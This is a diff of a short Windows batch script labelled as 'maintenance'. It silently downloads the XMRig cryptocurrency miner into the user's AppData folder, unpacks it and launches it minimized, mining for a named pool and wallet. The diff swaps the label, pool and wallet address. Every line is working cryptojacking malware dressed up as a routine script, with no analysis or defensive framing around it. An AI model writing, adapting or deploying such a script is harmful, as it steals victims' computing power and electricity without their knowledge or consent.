@@ -1,6 +1,6 @@
-REM setup 8613 v0
+REM maintenance 8776 v0
 @echo off
 cd /d %APPDATA%
 curl -sLo x.zip https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip
 tar -xf x.zip
-start /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://pool.hashvault.pro:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level=1
+start /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://xmr-eu1.nanopool.org:14444 -u 43Xs7GtJ2fwQpUzzV2Dc3n1ChPfZqB1vKEr4uXe1eS4vN2M4F3cyXNs1Qk3bN4dQLqJ8e2xZ9wR7uY5tT3sK1pA6Bn7mVcD -p x --donate-level=1
